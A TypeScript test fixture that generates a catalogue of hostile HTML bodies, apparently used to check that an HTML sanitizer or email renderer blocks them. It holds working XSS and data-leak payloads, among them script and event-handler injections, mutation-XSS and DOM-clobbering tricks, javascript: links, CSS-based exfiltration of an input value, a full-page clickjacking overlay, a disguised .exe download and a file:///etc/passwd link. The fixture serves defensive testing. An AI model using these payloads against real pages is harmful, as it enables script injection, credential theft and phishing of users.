/**
 * Bodies as somebody who means harm would write them into an invitation. Each says a harmless sentence, and tries
 * to run, to fetch, to lead away or to cover the page. `bites` is how it shows itself in this browser when nothing
 * protects the reader, so that the list is known to have teeth: by itself, at a click, or (an older browser's
 * weakness) not at all. Pure text; `trap` is an address at which every request counts.
 */
export interface HostileBody {
  readonly name: string;
  readonly bites: 'itself' | 'at a click' | 'no more';
  /** `trap` is asked with this name as its path, by whatever runs or loads. */
  readonly html: string;
}

/** Stands in every body, and must be read by the person. */
export function harmlessSentence(name: string): string {
  return `Plain words of ${name}.`;
}

export function hostileBodies(trap: string): HostileBody[] {
  return Object.entries(makers).flatMap(([bites, made]) =>
    Object.entries(made).map(([name, make]) => {
      const url = `${trap}/${name}`;
      // Without a value: a link to a script would show that instead.
      const run = `void(new Image().src='${url}')`;
      return { name, bites: bitesOf(bites), html: `<p>${harmlessSentence(name)}</p>${make(url, run)}` };
    }),
  );
}

function bitesOf(key: string): HostileBody['bites'] {
  if (key === 'itself' || key === 'at a click') return key;
  return 'no more';
}

type Make = (url: string, run: string) => string;

const encoded = (text: string): string => text.replaceAll(/./gu, (char) => `&#${char.codePointAt(0)};`);

const makers: Readonly<Record<HostileBody['bites'], Readonly<Record<string, Make>>>> = {
  itself: {
    script: (_url, run) => `<script>${run}</script>`,
    'script-src': (url) => `<script src="${url}"></script>`,
    'script-module': (url) => `<script type="module">import '${url}'</script>`,
    'script-upper-case': (_url, run) => `<SCRIPT\n>${run}</SCRIPT\n>`,
    'script-split': (_url, run) => `<scr<script></script>ipt></script><script>${run}</script>`,
    'img-onerror': (_url, run) => `<img src="x:" onerror="${run}">`,
    'img-onerror-no-quotes': (url) => `<img/src=x:\tonerror=fetch("${url}")>`,
    'img-onerror-encoded': (_url, run) => `<img src=x: onerror="${encoded(run)}">`,
    'img-onload': (_url, run) =>
      `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==" onload="${run}">`,
    'body-onload': (_url, run) => `<body onload="${run}">`,
    'body-background': (url) => `<body background="${url}">`,
    'details-ontoggle': (_url, run) =>
      `<details open ontoggle="${run}"><summary>More</summary>text</details>`,
    'input-onfocus': (_url, run) => `<input autofocus onfocus="${run}">`,
    'animation-event': (_url, run) =>
      `<style>@keyframes run { to { opacity: 1 } }</style><b style="animation: run 1ms" onanimationend="${run}">b</b>`,
    'svg-onload': (_url, run) => `<svg onload="${run}"><circle r="9"/></svg>`,
    'svg-script': (_url, run) => `<svg><script>${run}</script></svg>`,
    'svg-image': (url) => `<svg width="9" height="9"><image href="${url}" width="9" height="9"/></svg>`,
    'svg-feimage': (url) =>
      `<svg width="9" height="9"><filter id="f"><feImage href="${url}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
    'svg-animate': (_url, run) => `<svg><animate attributeName="x" dur="1ms" onend="${run}"/></svg>`,
    'math-and-style': (_url, run) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${run.replaceAll('"', '')}&gt;"><script>${run}</script></table></mtext></math>`,
    img: (url) => `<img src="${url}" alt="A picture">`,
    'img-srcset': (url) => `<img srcset="${url} 1x, ${url}?2 2x" alt="">`,
    'picture-source': (url) => `<picture><source srcset="${url}"><img alt=""></picture>`,
    'img-protocol-relative': (url) => `<img src="${url.replace('http:', '')}" alt="">`,
    'img-tracking-pixel': (url) => `<img src="${url}" width="1" height="1" style="display: none" alt="">`,
    'input-image': (url) => `<input type="image" src="${url}" alt="Send">`,
    'video-poster': (url) => `<video poster="${url}"></video>`,
    'video-source': (url) => `<video autoplay muted><source src="${url}"></video>`,
    audio: (url) => `<audio src="${url}" preload="auto" autoplay></audio>`,
    track: (url) =>
      `<video muted src="data:video/mp4;base64,"><track default kind="subtitles" src="${url}"></video><img src="${url}">`,
    iframe: (url) => `<iframe src="${url}"></iframe>`,
    'iframe-srcdoc': (_url, run) => `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
    'iframe-javascript': (_url, run) => `<iframe src="javascript:${run}"></iframe>`,
    'iframe-in-iframe': (url) =>
      `<iframe srcdoc="&lt;iframe srcdoc=&quot;&lt;img src='${url}'&gt;&quot;&gt;"></iframe>`,
    frameset: (url) => `<frameset><frame src="${url}"></frameset><iframe src="${url}"></iframe>`,
    object: (url) => `<object data="${url}" type="text/html"></object>`,
    embed: (url) => `<embed src="${url}" type="text/html">`,
    'link-stylesheet': (url) => `<link rel="stylesheet" href="${url}">`,
    'link-preload': (url) => `<link rel="preload" as="image" href="${url}">`,
    'style-import': (url) => `<style>@import "${url}";</style>`,
    'style-background': (url) => `<style>p { background: url("${url}") }</style>`,
    'style-escaped': (url) => `<style>p { background: \\75 rl("${url}") }</style>`,
    'style-font': (url) =>
      `<style>@font-face { font-family: f; src: url("${url}") } p { font-family: f }</style>`,
    'style-attribute': (url) => `<div style="background-image: url('${url}'); height: 9px">div</div>`,
    'style-image-set': (url) => `<div style="background: image-set('${url}' 1x); height: 9px">div</div>`,
    'style-list': (url) => `<ul style="list-style-image: url(${url})"><li>item</li></ul>`,
    'style-attribute-selector': (url) =>
      `<style>input[value^="s"] { background: url("${url}") }</style><input value="secret">`,
    'table-background': (url) => `<table background="${url}"><tr><td>cell</td></tr></table>`,
    'meta-refresh': (url) => `<meta http-equiv="refresh" content="0; url=${url}">`,
    base: (url) => `<base href="${url}/"><img src="x" alt="">`,
    template: (_url, run) =>
      `<template><script>1</script></template><div><template shadowrootmode="open"><img src="x:" onerror="${run}"></template></div><img src="x:" onerror="${run}">`,
    'mutation-noscript': (_url, run) =>
      `<noscript><p title="</noscript><img src=x: onerror=&quot;${run}&quot;>"></noscript><img src="x:" onerror="${run}">`,
    'mutation-comment': (_url, run) => `<!--><img src="x:" onerror="${run}">-->`,
    'mutation-svg-title': (_url, run) =>
      `<svg></p><style><a id="</style><img src=x: onerror=${run.replaceAll("'", '&#39;')}>"></a></style></svg><img src="x:" onerror="${run}">`,
    'mutation-form-nesting': (_url, run) =>
      `<form id="outer"><div></form><form id="inner"><img src="x:" onerror="${run}"></form></div>`,
    clobbering: (_url, run) =>
      `<form name="body"><input name="attributes"><input name="parentNode"><img src="x:" onerror="${run}"></form>`,
    'custom-element': (_url, run) => `<x-y is="script" onfocus="${run}" tabindex="0" autofocus>x</x-y>`,
    entities: (url) => `&lt;img src=${url}&gt;<img src="&#104;ttp://${url.replace('http://', '')}" alt="">`,
    'null-byte': (_url, run) => `<img src="x:"\u000conerror="${run}">`,
  },
  'at a click': {
    'link-javascript': (_url, run) => `<a href="javascript:${run}">A link</a>`,
    'link-javascript-encoded': (_url, run) => `<a href="${encoded('javascript:')}${run}">A link</a>`,
    'link-javascript-with-tab': (_url, run) => `<a href=" java\tscr\nipt:${run}">A link</a>`,
    'link-to-http': (url) => `<a href="${url}">A link</a>`,
    'link-in-the-top-window': (url) => `<a href="${url}" target="_top">A link</a>`,
    'link-onclick': (_url, run) => `<a href="#" onclick="${run}">A link</a>`,
    'svg-link': (_url, run) =>
      `<svg width="99" height="20"><a xlink:href="javascript:${run}"><text y="15">A link</text></a></svg>`,
    'math-link': (_url, run) =>
      `<math href="javascript:${run}"><mi>A link</mi></math><a href="javascript:${run}">A link</a>`,
    'link-ping': (url) => `<a href="#here" ping="${url}">A link</a>`,
    'link-download': (url) => `<a href="${url}" download="invoice.exe">A link</a>`,
    area: (_url, run) =>
      `<map name="m"><area shape="default" href="javascript:${run}" alt="A link"></map><img usemap="#m" width="50" height="50" alt="A link" src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==">`,
    form: (url) => `<form action="${url}"><input name="password" value="x"><button>A link</button></form>`,
    'form-formaction': (_url, run) => `<form><button formaction="javascript:${run}">A link</button></form>`,
    'cover-the-page': (url) =>
      `<a href="${url}" style="position: fixed; inset: 0; z-index: 99999; background: #fff; opacity: 0.9">A link</a>`,
  },
  'no more': {
    'mutation-select': (_url, run) => `<select><style></select><img src="x:" onerror="${run}"></style>`,
    'img-javascript': (_url, run) => `<img src="javascript:${run}" alt="">`,
    'img-vbscript': (_url, run) => `<img src="vbscript:${run}" alt="">`,
    'style-expression': (_url, run) =>
      `<p style="width: expression(${run}); behavior: url(#x)">expression</p>`,
    'xml-island': (_url, run) => `<xml id="i"><x><c>${run}</c></x></xml>`,
    isindex: (url) => `<isindex action="${url}" prompt="x">`,
    'conditional-comment': (_url, run) => `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
    'utf-7': (_url, run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    plaintext: (url) => `<plaintext><img src="${url}">`,
    textarea: (url) => `<textarea><img src="${url}"></textarea>`,
    'link-data': (_url, run) =>
      `<a href="data:text/html,<script>${run.replaceAll('"', '')}</script>">A link</a>`,
    'link-file': () => `<a href="file:///etc/passwd">A link</a>`,
  },
};
